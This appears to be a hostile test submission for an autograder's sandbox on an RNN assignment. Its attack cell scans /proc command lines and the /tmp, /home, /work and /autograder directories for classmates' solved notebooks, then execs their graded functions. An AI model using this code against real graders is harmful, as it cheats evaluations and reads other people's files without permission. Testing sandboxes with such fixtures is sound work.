# ruff: noqa
# description: copies a classmate's functions: finds other notebooks through /proc/*/cmdline (a local batch names them all) and a walk of /tmp, /home, /work and /autograder, and runs the graded functions' cells of the first solved one, replacing its own stubs
# attacks: rnn_cell_forward, rnn_forward, bptt, clip, sample
# ran: CLASSMATES
# position: end
# proof: unsandboxed
# %% attack
import json, os, time

_GRADED = ("rnn_cell_forward", "rnn_forward", "bptt", "clip", "sample")

def _candidates(budget=1.5):
    t0, paths = time.monotonic(), []
    try:
        pids = os.listdir("/proc")
    except OSError:  # closed (Landlock): the walk below may still find them
        pids = []
    for pid in pids:
        try:
            args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        except OSError:
            continue
        paths += [a.decode(errors="replace") for a in args if a.endswith((b".ipynb", b".zip"))]
    for root in ("/tmp", "/home", "/work", "/autograder"):
        for dirpath, dirnames, filenames in os.walk(root):
            if time.monotonic() - t0 > budget:
                return paths
            # where a TA keeps a batch: look there first
            dirnames[:] = sorted((d for d in dirnames if not d.startswith(".")), key=lambda d: (
                not any(k in d for k in ("submission", "pytest", "hostile", "grade", "hw")), d))
            paths += [os.path.join(dirpath, n) for n in filenames if n.endswith(".ipynb")]
    return paths

def _solved_cells(path):
    try:
        nb = json.load(open(path))
    except (OSError, ValueError):
        return None
    cells = {}
    for cell in nb.get("cells", []):
        source = "".join(cell.get("source", "")) if cell.get("cell_type") == "code" else ""
        for name in _GRADED:
            if source.startswith(f"def {name}(") and "YOUR CODE" not in source \
                    and "NotImplementedError" not in source:
                cells[name] = source
    return cells if len(cells) == len(_GRADED) else None

_copied = None
_seen = _candidates()
for _path in sorted(_seen, key=lambda p: "solved" not in p):
    _copied = _solved_cells(_path)
    if _copied:
        for _source in _copied.values():
            exec(_source, globals())
        break
print("CLASSMATES seen=%d copied=%s" % (len(_seen), bool(_copied)))
# %% replace rnn_cell_forward
def rnn_cell_forward(x_t, h_prev, parameters):
    raise NotImplementedError
# %% replace rnn_forward
def rnn_forward(X, h0, parameters):
    raise NotImplementedError
# %% replace bptt
def bptt(X, Y, H, Y_hat, h0, parameters):
    raise NotImplementedError
# %% replace clip
def clip(gradients, max_value):
    raise NotImplementedError
# %% replace sample
def sample(parameters, char_to_ix, rng, max_length=50):
    raise NotImplementedError
# %% honest rnn_cell_forward
def rnn_cell_forward(x_t, h_prev, parameters):
    raise NotImplementedError
# %% honest rnn_forward
def rnn_forward(X, h0, parameters):
    raise NotImplementedError
# %% honest bptt
def bptt(X, Y, H, Y_hat, h0, parameters):
    raise NotImplementedError
# %% honest clip
def clip(gradients, max_value):
    raise NotImplementedError
# %% honest sample
def sample(parameters, char_to_ix, rng, max_length=50):
    raise NotImplementedError
